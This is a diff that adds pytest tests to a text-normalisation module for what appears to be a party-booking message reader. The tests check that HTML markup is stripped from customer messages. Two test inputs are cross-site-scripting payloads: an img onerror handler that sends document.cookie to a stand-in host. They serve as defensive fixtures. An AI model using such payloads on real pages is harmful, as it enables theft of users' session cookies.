@@ -290,6 +290,36 @@ class TestPeopleNamed:
         assert [(c.delta, c.group) for c in changes] == [(2, "adults")]
 
 
+class TestMarkup:
+    """Markup pasted around a message is not the customer's words: it is taken out before
+    anything reads the message."""
+
+    @pytest.mark.parametrize(
+        ("text", "plain"),
+        [
+            (
+                "<img src=x onerror=\"fetch('https://e.example/'+document.cookie)\"> refund pls",
+                "refund pls",
+            ),
+            ("&lt;b&gt;cancel&lt;/b&gt; it", "cancel it"),
+            ("<b><i>2 more adults</i></b>", "2 more adults"),
+            ("love u guys <3 see u sat", "love u guys <3 see u sat"),
+            ("18 < 20 guests", "18 < 20 guests"),
+        ],
+    )
+    def test_tags_and_entities_are_taken_out(self, text: str, plain: str) -> None:
+        assert " ".join(normalise.strip_markup(text).split()) == plain
+
+    @pytest.mark.parametrize(
+        "text", ["I want a refund", "we need to cancel the party", "add 2 more adults pls"]
+    )
+    def test_a_message_in_markup_reads_as_its_words(self, reader: Reader, text: str) -> None:
+        wrapped = f"<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\"> {text}"
+        assert intents(reader.understand(wrapped, context(), VOCABULARY)) == intents(
+            reader.understand(text, context(), VOCABULARY)
+        )
+
+
 class TestPeopleBringingTheirOwn:
     """A person named before "... bring her 3 kids" is the one bringing them: a hint the learned
     person reader weighs (in the corpus, the one bringing is usually counted already)."""
